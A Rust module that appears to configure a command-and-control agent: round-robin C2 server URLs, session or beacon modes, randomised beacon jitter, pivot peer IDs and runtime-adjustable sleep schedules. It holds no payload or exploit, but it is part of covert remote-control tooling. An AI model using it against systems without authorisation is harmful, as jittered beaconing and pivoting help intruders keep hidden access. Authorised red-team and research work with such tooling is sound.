//! Agent configuration and runtime-adjustable settings

use crate::error::AgentError;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::path::Path;
use std::time::Duration;
use tokio::sync::watch;
use tracing::{debug, info};
use uuid::Uuid;

/// Environment variable naming the JSON configuration file
pub const CONFIG_ENV: &str = "BACKHAUL_CONFIG";

/// Operating mode
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    /// Persistent bidirectional session
    #[default]
    Session,
    /// Periodic poll/sleep cycle
    Beacon,
}

/// Agent configuration
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct AgentConfig {
    /// C2 server URLs, tried round-robin
    pub c2_servers: Vec<String>,
    /// Operating mode
    pub mode: Mode,
    /// Seconds to sleep between connection attempts
    pub reconnect_interval: u64,
    /// Seconds between beacon checkins
    pub beacon_interval: u64,
    /// Upper bound of random seconds added to each beacon sleep
    pub beacon_jitter: u64,
    /// Consecutive connection errors tolerated before giving up
    pub max_connection_errors: u32,
    /// Instance identifier
    pub instance_id: Uuid,
    /// Caller-assigned configuration identifier
    pub config_id: String,
    /// Peer identifier when chained through pivots
    pub peer_id: i64,
    /// Proxy URL for transports that support one
    pub proxy_url: Option<String>,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self {
            c2_servers: Vec::new(),
            mode: Mode::Session,
            reconnect_interval: 60,
            beacon_interval: 60,
            beacon_jitter: 0,
            max_connection_errors: 1000,
            instance_id: Uuid::new_v4(),
            config_id: String::new(),
            peer_id: 0,
            proxy_url: None,
        }
    }
}

impl AgentConfig {
    /// Create a configuration for the given servers
    pub fn new(c2_servers: Vec<String>) -> Self {
        Self {
            c2_servers,
            ..Default::default()
        }
    }

    /// Load from the file named by [`CONFIG_ENV`], or defaults when unset
    pub fn load() -> Result<Self, AgentError> {
        match std::env::var_os(CONFIG_ENV) {
            Some(path) => Self::from_file(path),
            None => {
                debug!("{} not set, using default configuration", CONFIG_ENV);
                Ok(Self::default())
            }
        }
    }

    /// Load from a JSON file
    pub fn from_file(path: impl AsRef<Path>) -> Result<Self, AgentError> {
        let path = path.as_ref();
        let raw = std::fs::read_to_string(path)
            .map_err(|e| AgentError::Config(format!("reading {}: {}", path.display(), e)))?;
        let config: Self = serde_json::from_str(&raw)?;
        info!("Loaded configuration from {}", path.display());
        config.validate()?;
        Ok(config)
    }

    /// Check invariants the engines rely on
    pub fn validate(&self) -> Result<(), AgentError> {
        if self.c2_servers.is_empty() {
            return Err(AgentError::Config("no C2 servers configured".to_string()));
        }
        if self.beacon_interval == 0 && self.mode == Mode::Beacon {
            return Err(AgentError::Config("beacon interval must be positive".to_string()));
        }
        Ok(())
    }

    /// Set the operating mode
    pub fn with_mode(mut self, mode: Mode) -> Self {
        self.mode = mode;
        self
    }

    /// Set the reconnect interval
    pub fn with_reconnect_interval(mut self, interval: Duration) -> Self {
        self.reconnect_interval = interval.as_secs();
        self
    }

    /// Set the beacon interval and jitter
    pub fn with_beacon_schedule(mut self, interval: Duration, jitter: Duration) -> Self {
        self.beacon_interval = interval.as_secs();
        self.beacon_jitter = jitter.as_secs();
        self
    }

    /// Set the consecutive error budget
    pub fn with_max_connection_errors(mut self, max: u32) -> Self {
        self.max_connection_errors = max;
        self
    }

    /// Initial runtime schedule
    pub fn schedule(&self) -> Schedule {
        Schedule {
            reconnect_interval: Duration::from_secs(self.reconnect_interval),
            beacon_interval: Duration::from_secs(self.beacon_interval),
            beacon_jitter: Duration::from_secs(self.beacon_jitter),
        }
    }
}

/// The runtime-adjustable intervals
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Schedule {
    /// Sleep between connection attempts
    pub reconnect_interval: Duration,
    /// Sleep between beacon checkins
    pub beacon_interval: Duration,
    /// Random extra sleep bound for beacons
    pub beacon_jitter: Duration,
}

/// Shared, runtime-adjustable schedule. Every effective change is published
/// to subscribers.
#[derive(Debug)]
pub struct RuntimeSettings {
    schedule: watch::Sender<Schedule>,
}

impl RuntimeSettings {
    /// Create settings from an initial schedule
    pub fn new(schedule: Schedule) -> Self {
        let (schedule, _) = watch::channel(schedule);
        Self { schedule }
    }

    /// Current schedule
    pub fn schedule(&self) -> Schedule {
        *self.schedule.borrow()
    }

    /// Subscribe to schedule changes
    pub fn subscribe(&self) -> watch::Receiver<Schedule> {
        self.schedule.subscribe()
    }

    /// Current reconnect interval
    pub fn reconnect_interval(&self) -> Duration {
        self.schedule.borrow().reconnect_interval
    }

    /// Current beacon interval
    pub fn beacon_interval(&self) -> Duration {
        self.schedule.borrow().beacon_interval
    }

    /// Current beacon jitter
    pub fn beacon_jitter(&self) -> Duration {
        self.schedule.borrow().beacon_jitter
    }

    /// Beacon interval plus a uniform random amount below the jitter
    pub fn beacon_duration(&self) -> Duration {
        let Schedule { beacon_interval, beacon_jitter, .. } = self.schedule();
        let jitter_ms = beacon_jitter.as_millis() as u64;
        let extra = if jitter_ms > 0 {
            Duration::from_millis(rand::thread_rng().gen_range(0..jitter_ms))
        } else {
            Duration::ZERO
        };
        beacon_interval + extra
    }

    /// Set the reconnect interval
    pub fn set_reconnect_interval(&self, interval: Duration) {
        self.update(|s| s.reconnect_interval = interval);
    }

    /// Set the beacon interval
    pub fn set_beacon_interval(&self, interval: Duration) {
        self.update(|s| s.beacon_interval = interval);
    }

    /// Set the beacon jitter
    pub fn set_beacon_jitter(&self, jitter: Duration) {
        self.update(|s| s.beacon_jitter = jitter);
    }

    fn update(&self, apply: impl FnOnce(&mut Schedule)) {
        let changed = self.schedule.send_if_modified(|schedule| {
            let before = *schedule;
            apply(schedule);
            before != *schedule
        });
        if changed {
            debug!("Runtime schedule changed: {:?}", self.schedule());
        }
    }
}
